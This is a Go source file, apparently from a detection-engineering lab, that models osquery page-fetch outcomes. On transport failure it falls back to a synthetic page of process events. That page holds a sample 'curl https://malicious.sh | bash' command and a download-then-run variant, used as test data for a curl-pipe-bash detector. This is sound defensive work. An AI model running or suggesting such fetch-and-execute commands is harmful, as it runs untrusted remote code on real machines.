package osquery

import (
	"github.com/mikewolf256/detection-engineering-mini-lab/models"
)

// OutcomeStatus tags how a single page fetch concluded.
type OutcomeStatus string

const (
	OutcomeSuccess        OutcomeStatus = "success"
	OutcomeHTTPError      OutcomeStatus = "http_error"
	OutcomeTransportError OutcomeStatus = "transport_error"
)

// FetchOutcome represents the result of one page fetch. Exactly one status
// applies: success carries wire data, http_error carries the upstream status
// and an empty page, transport_error carries the synthetic fallback page so
// the pipeline keeps producing output when the API is unreachable.
//
// The tag makes "no more data" and "the call failed" distinguishable; an
// empty successful page is not an error.
type FetchOutcome struct {
	Status     OutcomeStatus
	Page       models.PageResult
	StatusCode int
	Err        error
}

// OK reports whether the fetch returned wire data.
func (o FetchOutcome) OK() bool {
	return o.Status == OutcomeSuccess
}

// SyntheticFallbackPage returns the fixed demo page substituted after a
// transport failure. One event matches the curl-pipe-bash detection and one
// does not, so downstream stages always have something to chew on offline.
func SyntheticFallbackPage() models.PageResult {
	return models.PageResult{
		Events: []models.Event{
			{"pid": 1, "cmdline": "bash -c 'curl https://malicious.sh | bash'"},
			{"pid": 2, "cmdline": "curl https://legit.sh -o /tmp/x && bash /tmp/x"},
		},
		Synthetic: true,
	}
}

func successOutcome(page models.PageResult, statusCode int) FetchOutcome {
	return FetchOutcome{Status: OutcomeSuccess, Page: page, StatusCode: statusCode}
}

func httpErrorOutcome(statusCode int, err error) FetchOutcome {
	return FetchOutcome{
		Status:     OutcomeHTTPError,
		Page:       models.PageResult{Events: []models.Event{}},
		StatusCode: statusCode,
		Err:        err,
	}
}

func transportErrorOutcome(err error) FetchOutcome {
	return FetchOutcome{
		Status: OutcomeTransportError,
		Page:   SyntheticFallbackPage(),
		Err:    err,
	}
}
